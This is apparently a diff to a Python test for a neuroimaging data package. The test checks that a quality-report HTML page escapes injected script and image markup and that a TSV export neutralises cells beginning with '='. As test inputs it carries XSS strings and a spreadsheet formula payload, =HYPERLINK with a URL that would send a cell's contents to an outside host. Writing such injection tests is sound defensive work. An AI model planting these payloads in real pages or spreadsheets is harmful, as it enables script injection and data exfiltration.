@@ -270,13 +270,15 @@ def test_a_quality_page_holds_no_markup_of_a_stranger(tmp_path):
     from brainlsap.data import make_cohort
 
     cohort = make_cohort(6, atlas="desikan82")
-    table = cohort.table.assign(scan=[f"s{k}{SCRIPT}" for k in range(cohort.n_scans)])
+    table = cohort.table.assign(scan=[f"={k}{SCRIPT}" for k in range(cohort.n_scans)])
     cohort = replace(cohort, table=table, notes=(SCRIPT,))
     page = write_quality_page(cohort, tmp_path / "q", with_identifiers=True)
     html = page.read_text(encoding="utf-8")
     assert "<script>alert" not in html
     assert "<img src=x" not in html
     assert "&lt;img src=x" in html
+    lines = (tmp_path / "q" / "quality_scans.tsv").read_text().splitlines()
+    assert all(line.startswith("'=") for line in lines[1:])
 
 
 FORMULA = '=HYPERLINK("http://x?"&A1)'
